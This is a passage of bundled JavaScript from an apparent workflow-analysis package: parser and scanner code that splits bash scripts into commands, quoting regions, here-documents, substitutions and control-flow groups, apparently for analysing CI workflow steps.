            case "ArithmeticCommand":
                return this.arithmeticCommand(node, place, [], into);
            case "Redirected":
                return this.redirected(node, place, into);
            default:
                return this.compound(node, place, [], into);
        }
    }
    andOr(node, place, into) {
        node.commands.forEach((command, index) => {
            const operator = node.operators[index - 1];
            const at = operator ? under(place, operator === "&&" ? "and" : "or") : place;
            this.node(command, at, into);
        });
    }
    pipeline(node, place, into) {
        const stages = [];
        for (const command of node.commands) {
            const stage = this.node(command, place, into);
            if (stage)
                stages.push(stage);
        }
        if (stages.length < 2)
            return;
        stages.forEach((stage, index) => {
            stage.pipeline = { index, stages };
        });
    }
    command(node, place, into) {
        const assignments = [];
        const redirects = [];
        const args = [];
        const command = this.add(node, place, into, { name: undefined, args, assignments, redirects });
        this.wordPlace = place;
        for (const child of node.prefix) {
            if (child.type === "Assignment")
                assignments.push(this.assignment(child));
            else
                redirects.push(this.redirect(child));
        }
        if (node.name)
            command.name = wordOf(node.name, this);
        for (const child of node.suffix) {
            if (child.type === "Word")
                args.push(wordOf(child, this));
            else if (child.type === "Assignment")
                args.push(assignmentWord(child, this));
            else
                redirects.push(this.redirect(child));
        }
        return command;
    }
    add(node, place, into, content) {
        const command = {
            kind: "command",
            ...this.place(node.pos, node.end),
            ...content,
            place,
            pipeline: undefined,
        };
        this.collected.commands.push(command);
        into.push(command);
        return command;
    }
    assignment(node) {
        const { value } = node;
        // A subscript may run commands.
        if (node.index)
            wordOf(node.index, this);
        const values = value.type === "ArrayValue" ? value.elements : value.end > value.pos ? [value] : [];
        return {
            ...this.place(node.pos, node.end),
            name: node.name,
            append: node.append === true,
            values: values.map((word) => wordOf(word, this)),
        };
    }
    redirect(node) {
        const base = {
            ...this.place(node.pos, node.end),
            operator: node.operator,
            descriptor: descriptorOf(node.descriptor),
        };
        if (node.type !== "HereDoc") {
            return { ...base, target: node.target && wordOf(node.target, this), heredoc: undefined };
        }
        const { delimiter, body } = node;
        const quoted = delimiter?.quoted ?? false;
        return {
            ...base,
            target: delimiter && plainWord(delimiter.pos, delimiter.end, this),
            heredoc: {
                body: this.place(body.pos, body.end),
                delimiter: delimiter?.value ?? "",
                quoted,
                content: heredocWord(body, quoted, this),
            },
        };
    }
    redirects(nodes, place) {
        this.wordPlace = place;
        return nodes.map((node) => this.redirect(node));
    }
    redirected(node, place, into) {
        const redirects = this.redirects(node.redirects, place);
        const { command } = node;
        if (command.type === "TestCommand")
            return this.testCommand(command, place, redirects, into);
        if (command.type === "ArithmeticCommand")
            return this.arithmeticCommand(command, place, redirects, into);
        return this.compound(command, place, redirects, into, node);
    }
    function(node, place, into) {
        const name = node.name.value;
        return this.group("function", node, place, { name }, into, (inside, commands) => {
            const body = { ...inside, inFunction: name };
            if (node.body.type === "CompoundList")
                this.list(node.body.commands, body, commands);
            else
                this.node(node.body, body, commands);
        });
    }
    compound(node, place, redirects, into, whole = node) {
        this.wordPlace = place;
        switch (node.type) {
            case "BraceGroup":
            case "Subshell":
                return this.group(node.type === "Subshell" ? "subshell" : "brace", whole, place, { redirects }, into, (inside, to) => this.list(node.body.commands, inside, to));
            case "If":
                return this.group("if", whole, place, { redirects }, into, (inside, to) => this.branches(node, inside, to));
            case "While":
                return this.group("while", whole, place, { redirects }, into, (inside, to) => {
                    this.list(node.clause.commands, under(inside, "loop-test"), to);
                    this.list(node.body.commands, under(inside, "loop-body"), to);
                });
            case "For":
            case "Select": {
                const words = (node.wordlist ?? []).map((word) => wordOf(word, this));
                const kind = node.type === "For" ? "for" : "select";
                return this.group(kind, whole, place, { redirects, words, name: node.name.value }, into, (inside, to) => this.list(node.body.commands, under(inside, "loop-body"), to));
            }
            case "ArithmeticFor": {
                const words = [node.initialize, node.test, node.update].flatMap((part) => part ? [arithmeticWord(part, part, this)] : []);
                return this.group("for", whole, place, { redirects, words }, into, (inside, to) => this.list(node.body.commands, under(inside, "loop-body"), to));
            }
            case "Case": {
                const words = [wordOf(node.word, this)];
                return this.group("case", whole, place, { redirects, words }, into, (inside, to) => {
                    const body = under(inside, "case-body");
                    for (const item of node.items) {
                        this.wordPlace = inside;
                        for (const pattern of item.pattern)
                            wordOf(pattern, this);
                        this.list(item.body.commands, body, to);
                    }
                });
            }
        }
    }
    branches(node, inside, into) {
        this.list(node.clause.commands, under(inside, "if-test"), into);
        this.list(node.then.commands, under(inside, "if-body"), into);
        const otherwise = under(inside, "else-body");
        for (const branch of node.elif) {
            this.list(branch.clause.commands, under(otherwise, "if-test"), into);
            this.list(branch.then.commands, under(inside, "if-body"), into);
        }
        if (node.else)
            this.list(node.else.commands, otherwise, into);
    }
    group(kind, node, place, content, into, fill) {
        const commands = [];
        const group = {
            kind,
            ...this.place(node.pos, node.end),
            name: content.name,
            words: content.words ?? [],
            redirects: content.redirects ?? [],
            commands,
            place,
            pipeline: undefined,
        };
        this.collected.groups.push(group);
        fill({ ...place, group }, commands);
        for (const command of commands)
            into.push(command);
        return group;
    }
    testCommand(node, place, redirects, into) {
        const args = [];
        const name = plainWord(node.pos, node.pos + 2, this);
        const command = this.add(node, place, into, { name, args, assignments: [], redirects });
        this.wordPlace = place;
        this.operands(node.expression, args);
        return command;
    }
    operands(node, into) {
        switch (node.type) {
            case "TestUnary":
                into.push(...this.operator(node.operator, node.pos, node.operand.pos), wordOf(node.operand, this));
                return;
            case "TestBinary":
                into.push(wordOf(node.left, this), ...this.operator(node.operator, node.left.end, node.right.pos), wordOf(node.right, this));
                return;
            case "TestLogical":
                for (const operand of node.operands)
                    this.operands(operand, into);
                return;
            case "TestNot":
                this.operands(node.operand, into);
                return;
            case "TestGroup":
                this.operands(node.expression, into);
        }
    }
    /** What stands between two places of the text; nothing before a word that is a test by itself. */
    operator(operator, start, end) {
        const between = this.text.slice(start, end);
        const length = between.trim().length;
        if (length === 0)
            return [];
        const from = start + between.length - between.trimStart().length;
        return [plainWord(from, from + length, this, operator)];
    }
    arithmeticCommand(node, place, redirects, into) {
        const args = [];
        const name = plainWord(node.pos, node.pos + 2, this);
        const command = this.add(node, place, into, { name, args, assignments: [], redirects });
        this.wordPlace = place;
        args.push(arithmeticWord(node.expression, { pos: node.pos + 2, end: Math.max(node.pos + 2, node.end - 2) }, this));
        return command;
    }
}
function under(place, condition) {
    return { ...place, conditions: [...place.conditions, condition] };
}
function descriptorOf(descriptor) {
    if (!descriptor)
        return undefined;
    return descriptor.type === "FileDescriptor" ? String(descriptor.value) : `{${descriptor.name}}`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/regions.js
/** Collects the regions of a script while a lexer goes through it from start to end. */
class RegionRecorder {
    regions = [];
    #start = 0;
    #quoting = "none";
    /** From `at` on, the text is inside `quoting`. */
    enter(at, quoting) {
        if (quoting === this.#quoting)
            return;
        this.finish(at);
        this.#start = at;
        this.#quoting = quoting;
    }
    /** The text ends at `at`. */
    finish(at) {
        if (this.#quoting !== "none" && at > this.#start) {
            this.regions.push({ start: this.#start, end: at, quoting: this.#quoting });
        }
        this.#start = at;
        return this.regions;
    }
}
/** Index of the first region that ends after `offset`. */
function regionIndex(regions, offset) {
    let low = 0;
    let high = regions.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (regions[middle].end <= offset)
            low = middle + 1;
        else
            high = middle;
    }
    return low;
}
/** What `offset` is inside of; quotes themselves count as inside. */
function quotingIn(regions, offset) {
    const region = regions[regionIndex(regions, offset)];
    return region !== undefined && region.start <= offset ? region.quoting : "none";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/scan.js

/** Finds quotes, comments, here-documents and substitutions. Takes a script whose `${{ }}` are masked. */
function scanBash(text) {
    return new Scanner(text).run();
}
/** Deeper nesting is read as plain text: no script that a person wrote has it. */
const MAX_DEPTH = 200;
/** Characters that mean nothing where they stand; in code, behind another one. */
const PLAIN_IN_CODE = /[^\s;|&#'"()<>\\`$]*/y;
const PLAIN_IN_DOUBLE = /[^"\\`$]*/y;
const COMMENT = /[^\n]*/y;
const COMMENT_IN_BACKTICKS = /[^\n`]*/y;
const PLAIN_IN_HEREDOC = /[^\\`$]*/y;
/** After `$` these are a variable's name, whatever they mean elsewhere. */
const SPECIAL_PARAMETERS = "#$!?*@-";
const COMMAND_FOLLOWS = new Set(["then", "do", "else", "elif", "if", "while", "until", "!", "{", "time"]);
class Scanner {
    text;
    recorder = new RegionRecorder();
    substitutions = [];
    heredocs = [];
    stack = [];
    at = 0;
    /** Where the innermost open here-document's body ends. */
    limit;
    openBackticks = 0;
    constructor(text) {
        this.text = text;
        this.limit = text.length;
    }
    run() {
        this.push("code", "none", "");
        for (;;) {
            if (this.at >= this.limit) {
                if (!this.endHeredoc())
                    break;
                continue;
            }
            const frame = this.top;
            if (frame.kind === "code")
                this.code(frame);
            else if (frame.kind === "double")
                this.double();
            else if (frame.kind === "parameter")
                this.parameter(frame);
            else if (frame.kind === "arithmetic")
                this.arithmetic(frame);
            else
                this.expandable();
        }
        for (const { substitution } of this.stack)
            this.closeSubstitution(substitution, this.text.length, 0);
        return {
            regions: this.recorder.finish(this.text.length),
            substitutions: this.substitutions,
            heredocs: this.heredocs,
        };
    }
    get top() {
        return this.stack[this.stack.length - 1];
    }
    push(kind, quoting, closer) {
        const frame = {
            kind,
            quoting,
            closer,
            depth: 0,
            cases: 0,
            atCommand: true,
            pending: undefined,
            substitution: undefined,
            bodyEnd: 0,
            after: 0,
        };
        this.stack.push(frame);
        this.recorder.enter(this.at, quoting);
        return frame;
    }
    /** Leaves the innermost frame; `at` is the offset after its end. */
    pop(fence) {
        const frame = this.stack.pop();
        this.closeSubstitution(frame.substitution, this.at, fence);
        if (frame.closer === "`")
            this.openBackticks--;
        const parent = this.top;
        if (frame.pending && parent.kind === "code")
            parent.pending = [...(parent.pending ?? []), ...frame.pending];
        this.recorder.enter(this.at, parent.quoting);
    }
    closeSubstitution(substitution, end, fence) {
        if (!substitution)
            return;
        substitution.end = end;
        substitution.body.end = Math.max(substitution.body.start, end - fence);
    }
    code(frame) {
        const { text } = this;
        const start = this.at;
        const char = text[start];
        switch (char) {
            case "\n":
                this.at++;
                frame.atCommand = true;
                if (frame.pending)
                    this.startHeredoc(frame);
                return;
            case " ":
            case "\t":
            case "\r":
                this.at++;
                return;
            case ";":
            case "|":
            case "&":
                this.at++;
                frame.atCommand = true;
                return;
            case "#":
                if (this.atWordStart())
                    this.comment();
                else
                    this.at++;
                return;
            case "'":
                frame.atCommand = false;
                this.plainQuote("single", start + 1);
                return;
            case '"':
                frame.atCommand = false;
                this.openDouble();
                return;
            case "(":
                if (text[start + 1] === "(" && frame.atCommand)
                    this.openArithmetic(2);
                else {
                    frame.depth++;
                    frame.atCommand = true;
                    this.at++;
                }
                return;
            case ")":
                this.closeParenthesis(frame);
                return;
            case "<":
            case ">":
                this.angle(frame, char);
                return;
        }
        if (this.escapeOrExpansion(char)) {
            frame.atCommand = false;
            return;
        }
        if (frame.atCommand && this.atWordStart())
            this.commandWord(frame);
        else
            this.skip(PLAIN_IN_CODE);
    }
    /** Goes past the character at hand and those behind it that mean nothing: one search is many times faster than steps. */
    skip(plain) {
        plain.lastIndex = this.at + 1;
        plain.test(this.text);
        this.at = Math.min(plain.lastIndex, this.limit);
    }
    closeParenthesis(frame) {
        this.at++;
        frame.atCommand = true;
        if (frame.depth > 0)
            frame.depth--;
        else if (frame.closer === ")" && frame.cases === 0)
            this.pop(1);
    }
    angle(frame, char) {
        const { text, at } = this;
        const next = text[at + 1];
        if (next === "(")
            this.openSubstitution(2);
        else if (char === "<" && next === "<") {
            if (text[at + 2] === "<")
                this.at += 3;
            else
                this.heredocOperator(frame);
        }
        else
            this.at++;
    }
    /** Reads reserved words, as far as they say where a command begins. */
    commandWord(frame) {
        const start = this.at;
        let end = start;
        while (end < this.limit && isNameCode(this.text.charCodeAt(end)))
            end++;
        const word = this.text.slice(start, Math.min(end, start + 8));
        if (end === start) {
            const char = this.text[start];
            if (!COMMAND_FOLLOWS.has(char))
                frame.atCommand = false;
            this.at++;
            return;
        }
        this.at = end;
        if (word === "case")
            frame.cases++;
        else if (word === "esac" && frame.cases > 0)
            frame.cases--;
        frame.atCommand = COMMAND_FOLLOWS.has(word);
    }
    atWordStart() {
        if (this.at === 0)
            return true;
        const before = this.text[this.at - 1];
        return " \t\r\n;&|()`".includes(before);
    }
    comment() {
        this.recorder.enter(this.at, "comment");
        // Inside backticks the closing one ends the comment too.
        this.skip(this.openBackticks > 0 ? COMMENT_IN_BACKTICKS : COMMENT);
        this.recorder.enter(this.at, this.top.quoting);
    }
    /** A quote without expansions, from `at` to the quote that closes it; the content begins at `content`. */
    plainQuote(quoting, content) {
        this.recorder.enter(this.at, quoting);
        const end = this.text.indexOf("'", content);
        this.at = end < 0 || end >= this.limit ? this.limit : end + 1;
        this.recorder.enter(this.at, this.top.quoting);
    }
    ansiQuote() {
        this.recorder.enter(this.at, "ansi-c");
        this.at += 2;
        while (this.at < this.limit && this.text[this.at] !== "'")
            this.at += this.text[this.at] === "\\" ? 2 : 1;
        this.at = Math.min(this.at + 1, this.limit);
        this.recorder.enter(this.at, this.top.quoting);
    }
    openDouble() {
        this.push("double", "double", "");
        this.at++;
    }
    openArithmetic(fence) {
        if (this.stack.length >= MAX_DEPTH)
            this.at += fence;
        else {
            this.push("arithmetic", "arithmetic", "");
            this.at += fence;
        }
    }
    openSubstitution(fence, closer = ")") {
        if (this.stack.length >= MAX_DEPTH) {
            this.at += fence;
            return;
        }
        const start = this.at;
        const body = { start: start + fence, end: start + fence };
        const substitution = { start, end: start + fence, body };
        this.substitutions.push(substitution);
        this.push("code", "none", closer).substitution = substitution;
        if (closer === "`")
            this.openBackticks++;
        this.at += fence;
    }
    /** `\`, `$` and backticks, which mean the same in code, double quotes and here-documents. */
    escapeOrExpansion(char) {
        if (char === "\\") {
            this.at = Math.min(this.at + 2, this.limit);
            return true;
        }
        if (char === "`") {
            if (this.openBackticks > 0)
                this.closeBacktick();
            else
                this.openSubstitution(1, "`");
            return true;
        }
        if (char !== "$")
            return false;
        const next = this.text[this.at + 1];
        if (next === "(") {
            if (this.text[this.at + 2] === "(")
                this.openArithmetic(3);
            else
                this.openSubstitution(2);
        }
        else if (next === "{")
            this.openParameter();
        else if (next === "'" && this.top.kind === "code")
            this.ansiQuote();
        else if (next !== undefined && SPECIAL_PARAMETERS.includes(next))
            this.at = Math.min(this.at + 2, this.limit);
        else
            this.at++;
        return true;
    }
    closeBacktick() {
        while (this.top.closer !== "`")
            this.pop(0);
        this.at++;
        this.pop(1);
        this.limit = this.outerLimit();
    }
    openParameter() {
        if (this.stack.length >= MAX_DEPTH) {
            this.at += 2;
            return;
        }
        this.push("parameter", this.top.quoting, "");
        this.at += 2;
        // `${#X}`, `${!X}`: what follows isn't a quote or a comment.
        if ("#!".includes(this.text[this.at] ?? "x"))
            this.at++;
    }
    double() {
        const char = this.text[this.at];
        if (char === '"') {
            this.at++;
            this.pop(0);
        }
        else if (!this.escapeOrExpansion(char))
            this.skip(PLAIN_IN_DOUBLE);
    }
    parameter(frame) {
        const char = this.text[this.at];
        if (char === "}") {
            this.at++;
            this.pop(0);
        }
        else if (char === "'" && frame.quoting === "none")
            this.plainQuote("single", this.at + 1);
        else if (char === '"')
            this.openDouble();
        else if (!this.escapeOrExpansion(char))
            this.at++;
    }
    arithmetic(frame) {
        const char = this.text[this.at];
        if (char === "(")
            frame.depth++;
        if (char === ")") {
            if (frame.depth > 0)
                frame.depth--;
            else {
                this.at += this.text[this.at + 1] === ")" ? 2 : 1;
                this.at = Math.min(this.at, this.limit);
                this.pop(0);
                return;
            }
        }
        if (char === '"')
            this.openDouble();
        else if (!this.escapeOrExpansion(char))
            this.at++;
    }
    expandable() {
        const char = this.text[this.at];
        if (!this.escapeOrExpansion(char))
            this.skip(PLAIN_IN_HEREDOC);
    }
    heredocOperator(frame) {
        const operator = this.at;
        const { text } = this;
        let at = operator + 2;
        const stripsTabs = text[at] === "-";
        if (stripsTabs)
            at++;
        while (text[at] === " " || text[at] === "\t")
            at++;
        let delimiter = "";
        let quoted = false;
        while (at < this.limit && !" \t\r\n;&|()<>".includes(text[at])) {
            const char = text[at];
            if (char === "'" || char === '"') {
                quoted = true;
                const close = text.indexOf(char, at + 1);
                const end = close < 0 || close > this.limit ? this.limit : close;
                delimiter += text.slice(at + 1, end);
                this.recorder.enter(at, char === "'" ? "single" : "double");
                at = end + 1;
                this.recorder.enter(Math.min(at, this.limit), this.top.quoting);
            }
            else if (char === "\\") {
                quoted = true;
                delimiter += text[at + 1] ?? "";
                at += 2;
            }
            else {
                delimiter += char;
                at++;
            }
        }
        this.at = Math.min(at, this.limit);
        frame.pending ??= [];
        frame.pending.push({ operator, delimiter, quoted, stripsTabs });
    }
    /** `at` is at the beginning of the body of the first pending here-document. */
    startHeredoc(frame) {
        const heredoc = frame.pending?.shift();
        if (!heredoc) {
            frame.pending = undefined;
            return;
        }
        const { bodyEnd, after } = this.heredocEnd(heredoc);
        this.heredocs.push({ operator: heredoc.operator, body: { start: this.at, end: bodyEnd }, after });
        const inner = this.push("heredoc", heredoc.quoted ? "heredoc-quoted" : "heredoc", "");
        inner.bodyEnd = bodyEnd;
        inner.after = after;
        this.limit = bodyEnd;
        if (heredoc.quoted)
            this.at = bodyEnd;
    }
    heredocEnd({ delimiter, stripsTabs }) {
        const { text, limit } = this;
        for (let line = this.at; line < limit;) {
            const newline = text.indexOf("\n", line);
            const end = newline < 0 || newline > limit ? limit : newline;
            let from = line;
            while (stripsTabs && text[from] === "\t")
                from++;
            const to = text[end - 1] === "\r" ? end - 1 : end;
            if (to - from === delimiter.length && text.startsWith(delimiter, from)) {
                return { bodyEnd: line, after: Math.min(end + 1, limit) };
            }
            line = end + 1;
        }
        return { bodyEnd: limit, after: limit };
    }
    /** Goes on after the innermost here-document; false when the script ends. */
    endHeredoc() {
        const index = this.stack.findLastIndex((frame) => frame.kind === "heredoc");
        const frame = this.stack[index];
        if (!frame)
            return false;
        this.at = frame.bodyEnd;
        while (this.stack.length > index)
            this.pop(0);
        this.at = frame.after;
        this.limit = this.outerLimit();
        const code = this.top;
        code.atCommand = true;
        if (code.pending)
            this.startHeredoc(code);
        return true;
    }
    outerLimit() {
        return this.stack.findLast((frame) => frame.kind === "heredoc")?.bodyEnd ?? this.text.length;
    }
}
/** ASCII letters, digits and `_`. */
function isNameCode(code) {
    return (code >= 97 && code <= 122) || (code >= 65 && code <= 90) || (code >= 48 && code <= 57) || code === 95;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/split-word.js


/** A word cut out by the splitter; its parts are found when asked for. */
class SplitWord {
    from;
    range;
    substitutions;
    start;
    end;
    #parts;
    constructor(from, range, substitutions) {
        this.from = from;
        this.range = range;
        this.substitutions = substitutions;
        const span = from.place(range.start, range.end);
        this.start = span.start;
        this.end = span.end;
    }
    get text() {
        return this.from.source.text.slice(this.start, this.end);
    }
    get parts() {
        this.#parts ??= splitParts(this.from, this.range, this.substitutions);
        return this.#parts;
    }
    get literal() {
        return literalOf(this.parts);
    }
    /** The word without its first `length` characters, `undefined` when nothing is left. */
    after(length) {
        const start = this.range.start + length;
        if (start >= this.range.end)
            return undefined;
        return new SplitWord(this.from, { start, end: this.range.end }, this.substitutions.filter(({ span }) => span.start >= start));
    }
}
const VARIABLE = /\$(?:([A-Za-z_][A-Za-z0-9_]*|[0-9@*#?$!-])|\{([#!]?)([A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-])([^}]{0,2})[^}]{0,500}\}?)/y;
function splitParts(from, range, substitutions) {
    const { text, scan, source, place } = from;
    const parts = [];
    let nextSubstitution = 0;
    let value = "";
    let valueStart = range.start;
    let quoted = "none";
    let region = regionIndex(scan.regions, range.start);
    const flush = (end) => {
        if (value !== "") {
            const span = place(valueStart, end);
            appendLiteral(parts, source, value, span.start, span.end, quoted);
        }
        value = "";
        valueStart = end;
    };
    let at = range.start;
    while (at < range.end) {
        const substitution = substitutions[nextSubstitution];
        if (substitution && at >= substitution.span.start) {
            flush(at);
            at = Math.max(at, substitution.span.end);
            const span = place(substitution.span.start, at);
            parts.push({ kind: "substitution", ...span, quoted, commands: substitution.commands });
            valueStart = at;
            nextSubstitution++;
            continue;
        }
        while (region < scan.regions.length && scan.regions[region]?.end <= at)
            region++;
        const current = scan.regions[region];
        const inside = current !== undefined && current.start <= at ? current : undefined;
        const nowQuoted = quotedAs(inside);
        if (nowQuoted !== quoted) {
            flush(at);
            quoted = nowQuoted;
        }
        const char = text[at];
        if (inside && (at === inside.start || at === inside.end - 1) && (char === "'" || char === '"')) {
            at++;
        }
        else if (quoted === "single") {
            value += char;
            at++;
        }
        else if (char === "\\" && at + 1 < range.end) {
            const next = text[at + 1];
            if (quoted === "none" || '$`"\\'.includes(next))
                value += next === "\n" ? "" : next;
            else
                value += next === "\n" ? "" : char + next;
            at += 2;
        }
        else if (char === '"' ||
            (char === "$" && (text[at + 1] === "'" || (text[at + 1] === '"' && quoted === "none")))) {
            at++;
        }
        else {
            VARIABLE.lastIndex = at;
            const match = char === "$" ? VARIABLE.exec(text) : null;
            if (match) {
                flush(at);
                const end = Math.min(at + match[0].length, range.end);
                const name = match[1] ?? match[3];
                parts.push({ kind: "variable", ...place(at, end), quoted, name, operator: split_word_operatorOf(match), operand: [] });
                at = end;
                valueStart = at;
                while (substitutions[nextSubstitution] && substitutions[nextSubstitution]?.span.start < at)
                    nextSubstitution++;
            }
            else {
                if (quoted === "none" && (char === "*" || char === "?")) {
                    flush(at);
                    parts.push({ kind: "glob", ...place(at, at + 1), quoted, pattern: char, parts: [] });
                    valueStart = at + 1;
                }
                else
                    value += char;
                at++;
            }
        }
    }
    flush(range.end);
    return parts;
}
function split_word_operatorOf(match) {
    if (match[2] === "#")
        return "length";
    if (match[2] === "!")
        return "indirect";
    return match[4] ? match[4] : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/split.js




/**
 * Commands of a script that no parser reads: words, redirects, pipelines and groups as far as they show in the text.
 * Takes anything and finds something.
 */
function splitScript(source, masked, placement, place, collected) {
    const from = { source, text: masked, scan: scanBash(masked), place: placement };
    new Splitter(from, collected).range({ start: 0, end: masked.length }, place, 0, 0);
}
const OPENERS = new Map([
    ["{", { kind: "brace", closer: "}" }],
    ["if", { kind: "if", closer: "fi" }],
    ["while", { kind: "while", closer: "done" }],
    ["until", { kind: "while", closer: "done" }],
    ["for", { kind: "for", closer: "done" }],
    ["select", { kind: "select", closer: "done" }],
    ["case", { kind: "case", closer: "esac" }],
]);
const CONDITIONS = new Map([
    ["if", "if-body"],
    ["while", "loop-body"],
    ["for", "loop-body"],
    ["select", "loop-body"],
    ["case", "case-body"],
]);
const CLOSERS = new Set(["}", "fi", "done", "esac"]);
const SEPARATORS = new Set(["then", "do", "else", "elif", "!", "time"]);
const split_ASSIGNMENT = /^([A-Za-z_][A-Za-z0-9_]*)(?:\[[^\]]*\])?(\+?)=/;
const split_MAX_DEPTH = 50;
const NEAR = 500;
class Splitter {
    from;
    collected;
    bodies = new Map();
    operators = new Map();
    constructor(from, collected) {
        this.from = from;
        this.collected = collected;
        for (const heredoc of from.scan.heredocs) {
            if (heredoc.after > heredoc.body.start)
                this.bodies.set(heredoc.body.start, heredoc);
            this.operators.set(heredoc.operator, heredoc);
        }
    }
    /** The here-document whose body begins at `offset`. */
    bodyAt(offset) {
        return this.bodies.get(offset);
    }
    /** The here-document whose operator is at `offset`. */
    heredocOf(offset) {
        return this.operators.get(offset);
    }
    /**
     * Splits a range, which is the whole text or the inside of a substitution.
     *
     * @param firstSubstitution index of the first substitution that may begin in the range
     * @returns the commands of the range and the index of the first substitution after it
     */
    range(range, place, firstSubstitution, depth) {
        const walk = new RangeWalk(this.from, this.collected, range, place, firstSubstitution, depth, this);
        return walk.run();
    }
}
class RangeWalk {
    from;
    collected;
    limits;
    place;
    substitution;
    depth;
    splitter;
    at;
    commands = [];
    open = [];
    draft;
    stages = [];
    region;
    /** Set between `name()` and the body. */
    functionName;
    constructor(from, collected, limits, place, substitution, depth, splitter) {
        this.from = from;
        this.collected = collected;
        this.limits = limits;
        this.place = place;
        this.substitution = substitution;
        this.depth = depth;
        this.splitter = splitter;
        this.at = limits.start;
        this.region = regionIndex(from.scan.regions, limits.start);
    }
    run() {
        const { text } = this.from;
        const { end } = this.limits;
        while (this.at < end) {
            if (this.skipHidden())
                continue;
            const char = text[this.at];
            if (!this.isPlain())
                this.word();
            else if (char === " " || char === "\t" || char === "\r")
                this.at++;
            else if (char === "\\" && (text[this.at + 1] === "\n" || text[this.at + 1] === "\r"))
                this.at += 2;
            else if (char === "\n" || char === ";")
                this.endPipeline();
            else if ("&|()<>".includes(char) && this.isInTest())
                this.at++;
            else if (char === "&" && text[this.at + 1] !== ">")
                this.endPipeline();
            else if (char === "|")
                this.pipe();
            else if (char === "(")
                this.openParenthesis();
            else if (char === ")")
                this.closeParenthesis();
            else if (this.isRedirect())
                this.redirect();
            else
                this.word();
        }
        this.endPipeline();
        while (this.open.length > 0)
            this.closeGroup(end);
        return { commands: this.commands, next: this.substitution };
    }
    /** Between `[[` and `]]` operators separate nothing. */
    isInTest() {
        const words = this.draft?.words;
        return words?.[0]?.text === "[[" && words[words.length - 1]?.text !== "]]";
    }
    get inner() {
        const group = this.open[this.open.length - 1];
        return group ? group.place : this.place;
    }
    /** Steps over comments and bodies of here-documents. */
    skipHidden() {
        const { regions } = this.from.scan;
        while (this.region < regions.length && regions[this.region]?.end <= this.at)
            this.region++;
        const region = regions[this.region];
        if (region?.quoting === "comment" && region.start <= this.at) {
            this.at = Math.min(region.end, this.limits.end);
            return true;
        }
        const heredoc = this.splitter.bodyAt(this.at);
        if (heredoc) {
            this.at = Math.min(heredoc.after, this.limits.end);
            this.skipSubstitutions();
            return true;
        }
        return false;
    }
    skipSubstitutions() {
        const { substitutions } = this.from.scan;
        while ((substitutions[this.substitution]?.start ?? Number.POSITIVE_INFINITY) < this.at)
            this.substitution++;
    }
    isPlain() {
        const { regions } = this.from.scan;
        while (this.region < regions.length && regions[this.region]?.end <= this.at)
            this.region++;
        const region = regions[this.region];
        return region === undefined || region.start > this.at;
    }
    word() {
        const word = this.readWord();
        if (!this.draft || this.draft.words.length === 0) {
            const text = this.from.text.slice(word.range.start, Math.min(word.range.end, word.range.start + 8));
            if (!this.draft?.closed && this.reserved(text, word.range))
                return;
        }
        const draft = this.begin(word.range.start);
        draft.words.push(new SplitWord(this.from, word.range, word.substitutions));
        draft.end = word.range.end;
    }
    /** Reads up to the next blank or operator that isn't quoted. */
    readWord() {
        const { text, scan } = this.from;
        const start = this.at;
        const substitutions = [];
        let arrays = 0;
        while (this.at < this.limits.end) {
            const substitution = scan.substitutions[this.substitution];
            if (substitution && substitution.start <= this.at) {
                substitutions.push(this.readSubstitution(substitution));
                continue;
            }
            const char = text[this.at];
            if (this.isPlain()) {
                if (char === "\\") {
                    if (text[this.at + 1] === "\n" && this.at > start && arrays === 0)
                        break;
                    this.at += 2;
                    continue;
                }
                if (char === "$" && text[this.at + 1] === "{") {
                    this.skipParameter();
                    continue;
                }
                // An array is one text, whatever blanks it holds.
                if (char === "(" && (arrays > 0 || text[this.at - 1] === "="))
                    arrays++;
                else if (char === ")" && arrays > 0)
                    arrays--;
                else if (arrays === 0 && " \t\r\n;&|()<>".includes(char))
                    break;
            }
            this.at++;
        }
        this.at = Math.max(Math.min(this.at, this.limits.end), start + 1);
        return { range: { start, end: this.at }, substitutions };
    }
    isSubstitution() {
        return this.from.scan.substitutions[this.substitution]?.start === this.at;
    }
    skipParameter() {
        const close = this.indexNear("}");
        const end = close < 0 ? this.at + 1 : close;
        const substitution = this.from.scan.substitutions[this.substitution];
        this.at = substitution ? Math.min(end + 1, Math.max(substitution.start, this.at + 1)) : end + 1;
    }
    /** The next `char` of the range, if it isn't far: looking further for each opening bracket would take forever. */
    indexNear(char) {
        const found = this.from.text.slice(this.at, Math.min(this.at + NEAR, this.limits.end)).indexOf(char);
        return found < 0 ? -1 : this.at + found;
    }
    readSubstitution(span) {
        this.substitution++;
        let commands = [];
        const end = Math.min(span.end, this.limits.end);
        if (this.depth < split_MAX_DEPTH) {
            const body = { start: span.body.start, end: Math.min(span.body.end, end) };
            const inside = { ...this.inner, inSubstitution: true, group: undefined };
            const read = this.splitter.range(body, inside, this.substitution, this.depth + 1);
            commands = read.commands;
            this.substitution = read.next;
        }
        this.at = Math.max(end, this.at + 1);
        this.skipSubstitutions();
        return { span, commands };
    }
    begin(start) {
        this.draft ??= { start, end: start, words: [], redirects: [], closed: undefined };
        return this.draft;
    }
    /** Handles a reserved word at the beginning of a command; false when it isn't one. */
    reserved(word, range) {
        if (SEPARATORS.has(word))
            return true;
        const opener = OPENERS.get(word);
        if (opener) {
            this.openGroup(opener.kind, opener.closer, range.start);
            return opener.kind !== "for" && opener.kind !== "select" && opener.kind !== "case" ? true : this.skipHeader();
        }
        const top = this.open[this.open.length - 1];
        if (CLOSERS.has(word) && top?.closer === word) {
            this.closeGroup(range.end);
            return true;
        }
        return false;
    }
    /** `for x in …`, `case … in`: the words up to the end of the line belong to no command. */
    skipHeader() {
        const { text } = this.from;
        while (this.at < this.limits.end) {
            const substitution = this.from.scan.substitutions[this.substitution];
            if (substitution && substitution.start <= this.at)
                this.readSubstitution(substitution);
            else if (this.isPlain() && (text[this.at] === "\n" || text[this.at] === ";"))
                break;
            else
                this.at++;
        }
        return true;
    }
    openGroup(kind, closer, start) {
        if (this.open.length >= split_MAX_DEPTH)
            return;
        const outer = this.inner;
        const span = this.from.place(start, start);
        const group = {
            kind,
            ...span,
            name: undefined,
            words: [],
            redirects: [],
            commands: [],
            place: outer,
            pipeline: undefined,
        };
        this.collected.groups.push(group);
